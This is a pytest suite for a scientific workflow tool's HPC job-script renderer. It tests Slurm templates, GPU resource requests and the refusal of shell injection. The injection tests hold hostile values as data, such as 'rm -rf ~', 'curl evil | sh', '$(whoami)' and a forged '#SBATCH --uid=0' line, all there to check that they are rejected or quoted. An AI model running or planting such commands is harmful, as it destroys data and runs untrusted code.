"""Job-script templates, cluster profiles and the refusal of injected shell code."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest

from ssbflow.errors import InputError
from ssbflow.hpc.profiles import load_profile
from ssbflow.hpc.remote import qtoolkit_resources
from ssbflow.hpc.render import (
    TEMPLATES,
    environment_lines,
    render_job_script,
    shell_command,
)

GPU_PROFILE = {
    "account": "proj-42",
    "partition": "gpu",
    "qos": "high",
    "walltime": "1-00:00:00",
    "nodes": 2,
    "tasks": 4,
    "cpus_per_task": 8,
    "gpus": 4,
    "memory": "200G",
    "modules": ["cuda/12.2", "cp2k/2024.1-gpu"],
    "pre_commands": ["source $HOME/venv/bin/activate"],
}


def _sbatch_options(script: str) -> dict[str, str]:
    return dict(re.findall(r"^#SBATCH --([a-z-]+)=(\S+)$", script, flags=re.M))


@pytest.mark.parametrize("template", list(TEMPLATES))
@pytest.mark.parametrize("profile_fields", [{}, GPU_PROFILE], ids=["local", "gpu-cluster"])
def test_every_template_renders_valid_bash(template, profile_fields, tmp_path):
    bash = shutil.which("bash")
    assert bash is not None
    profile = load_profile("local", profile_fields)
    command = shell_command(["ssbflow", "run", "sn-llzo", "--out", str(tmp_path / "a b")])
    script = render_job_script(profile, command, template=template, job_name="t1",
                               run_dir=tmp_path)
    path = tmp_path / f"{template}.sh"
    path.write_text(script)
    check = subprocess.run([bash, "-n", str(path)], capture_output=True, text=True)
    assert check.returncode == 0, check.stderr
    assert script.startswith("#!/bin/bash\n")
    opts = _sbatch_options(script)
    assert opts["job-name"] == "t1"
    assert opts["chdir"] == str(tmp_path)
    # the command survives quoting: the shell splits it back into the original words
    split = subprocess.run([bash, "-c", f"printf '%s\\n' {command}"], capture_output=True,
                           text=True, check=True).stdout.splitlines()
    assert split[-1] == str(tmp_path / "a b")
    assert command in script.splitlines()


def test_gpu_templates_request_gpus_and_one_rank_per_gpu(tmp_path):
    profile = load_profile("local", GPU_PROFILE)
    vasp = _sbatch_options(render_job_script(profile, "true", template="vasp-gpu",
                                             run_dir=tmp_path))
    assert vasp["gres"] == "gpu:4"
    assert vasp["ntasks-per-node"] == "4"  # OpenACC VASP: one MPI rank per GPU
    mlip = render_job_script(profile, "true", template="mlip-gpu", run_dir=tmp_path)
    opts = _sbatch_options(mlip)
    assert (opts["gres"], opts["nodes"], opts["ntasks-per-node"]) == ("gpu:1", "1", "1")
    assert "export OMP_NUM_THREADS=8" in mlip and "srun" not in mlip  # one process, no MPI
    # --gpus-per-node spelling for clusters that do not use gres
    alt = load_profile("local", {**GPU_PROFILE, "gpu_request": "gpus"})
    assert _sbatch_options(render_job_script(alt, "true", template="cp2k-gpu",
                                             run_dir=tmp_path))["gpus-per-node"] == "4"
    cpu = _sbatch_options(render_job_script(load_profile("local"), "true",
                                            template="cp2k-cpu", run_dir=tmp_path))
    assert "gres" not in cpu and "gpus-per-node" not in cpu


def test_openmm_gpu_template_is_one_process_on_one_gpu(tmp_path):
    bash = shutil.which("bash")
    profile = load_profile("local", GPU_PROFILE)  # 4 GPUs, 2 nodes: the job takes one GPU
    script = render_job_script(profile, "ssbflow run electrolyte-md --ns 1",
                               template="openmm-gpu", run_dir=tmp_path)
    opts = _sbatch_options(script)
    assert (opts["gres"], opts["nodes"], opts["ntasks-per-node"]) == ("gpu:1", "1", "1")
    assert "export OPENMM_CPU_THREADS=8" in script and "srun" not in script
    assert "mm.Platform.getPlatform(i).getName()" in script  # the log lists the platforms
    assert script.rstrip().splitlines()[-2] == "ssbflow run electrolyte-md --ns 1"
    path = tmp_path / "job.sh"
    path.write_text(script)
    subprocess.run([bash, "-n", str(path)], check=True)  # valid shell
    assert "openmm-gpu" in TEMPLATES
    # jobflow-remote's header for the same template (qtoolkit names)
    res = qtoolkit_resources(profile, "openmm-gpu")
    assert (res["gres"], res["nodes"], res["ntasks_per_node"]) == ("gpu:1", 1, 1)


def test_profile_fields_land_in_sbatch_lines(tmp_path):
    profile = load_profile("local", GPU_PROFILE)
    script = render_job_script(profile, "true", template="cp2k-cpu", run_dir=tmp_path)
    opts = _sbatch_options(script)
    assert opts["account"] == "proj-42"
    assert opts["qos"] == "high"
    assert opts["time"] == "1-00:00:00"
    assert opts["nodes"] == "2"
    assert opts["cpus-per-task"] == "8"
    assert opts["mem"] == "200G"
    assert "module load cp2k/2024.1-gpu" in script
    assert "export OMP_NUM_THREADS=8" in script
    assert 'ATOMATE2_CP2K_CMD="srun --cpus-per-task=8 cp2k.psmp"' in script
    env = environment_lines(profile, "cp2k-cpu")
    assert env.splitlines()[0] == "export OMP_NUM_THREADS=8"
    assert "#SBATCH" not in env


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("partition", "debug; rm -rf ~"),
        ("partition", "debug\n#SBATCH --uid=0"),
        ("account", "$(whoami)"),
        ("qos", "normal`id`"),
        ("modules", ["cp2k && curl evil | sh"]),
        ("modules", ["vasp\nrm -rf ~"]),
        ("walltime", "01:00:00; reboot"),
        ("memory", "4G --uid=0"),
        ("cp2k_cmd", "cp2k.psmp; rm -rf ~"),
        ("work_dir", "/scratch/a b"),
        ("pre_commands", ["module purge\nrm -rf ~"]),
    ],
)
def test_injection_in_profiles_refused_with_one_line(field, value):
    with pytest.raises(InputError) as err:
        load_profile("local", {field: value})
    message = str(err.value)
    assert "\n" not in message
    assert field in message


def test_injection_in_job_name_and_command_refused(tmp_path):
    profile = load_profile("local")
    for name in ("job; rm -rf ~", "job\n#SBATCH --x", "a b", "$(id)"):
        with pytest.raises(InputError, match="job_name"):
            render_job_script(profile, "true", job_name=name, run_dir=tmp_path)
    with pytest.raises(InputError, match="command argument 1"):
        shell_command(["echo", "one\ntwo"])
    with pytest.raises(InputError, match="run_dir"):
        render_job_script(profile, "true", run_dir=tmp_path / "x;y")
    # arguments with metacharacters are quoted, never executed
    out = subprocess.run(["bash", "-c", shell_command(["echo", "$(id); rm -rf ~"])],
                         capture_output=True, text=True, check=True).stdout
    assert out == "$(id); rm -rf ~\n"


def test_profile_file_and_user_templates(tmp_path, monkeypatch):
    monkeypatch.setenv("SSBFLOW_CLUSTERS", str(tmp_path / "none.yaml"))
    single = tmp_path / "mycluster.yaml"
    single.write_text("partition: short\nwalltime: '02:00:00'\n")
    assert load_profile(str(single)).partition == "short"
    several = tmp_path / "clusters.yaml"
    several.write_text("a: {partition: pa}\nb: {partition: 'pb; rm -rf ~'}\n")
    assert load_profile(f"{several}:a").partition == "pa"
    with pytest.raises(InputError, match="pick one"):
        load_profile(str(several))
    with pytest.raises(InputError, match=r"profile 'b': partition: 'pb; rm -rf ~'"):
        load_profile(f"{several}:b")
    with pytest.raises(InputError, match="unknown profile 'nope'"):
        load_profile("nope")
    # the user's clusters.yaml adds profiles and replaces shipped ones
    user = tmp_path / "user.yaml"
    user.write_text("local: {partition: mine}\n")
    monkeypatch.setenv("SSBFLOW_CLUSTERS", str(user))
    assert load_profile("local").partition == "mine"
    # a user template directory replaces a shipped template
    tdir = tmp_path / "templates" / "slurm"
    tdir.mkdir(parents=True)
    (tdir / "generic.sh.j2").write_text(
        '{% extends "slurm/_base.sh.j2" %}{% block environment %}export SITE=1{% endblock %}'
    )
    profile = load_profile("local", {"template_dir": str(tmp_path / "templates")})
    script = render_job_script(profile, "true", run_dir=tmp_path)
    assert "export SITE=1" in script and "#SBATCH --partition=mine" in script
    # StrictUndefined: a template naming a value nobody provides fails
    (tdir / "vasp-cpu.sh.j2").write_text("#!/bin/bash\n{{ no_such_value }}\n")
    with pytest.raises(InputError, match="no_such_value"):
        render_job_script(profile, "true", template="vasp-cpu", run_dir=tmp_path)
    with pytest.raises(InputError, match="unknown template"):
        render_job_script(profile, "true", template="gromacs", run_dir=tmp_path)


def test_shipped_profiles_are_valid():
    profile = load_profile("local")
    assert profile.partition == "debug"
    assert Path(profile.resolved_work_dir()).is_absolute()
    assert load_profile("example-gpu").gpus == 4
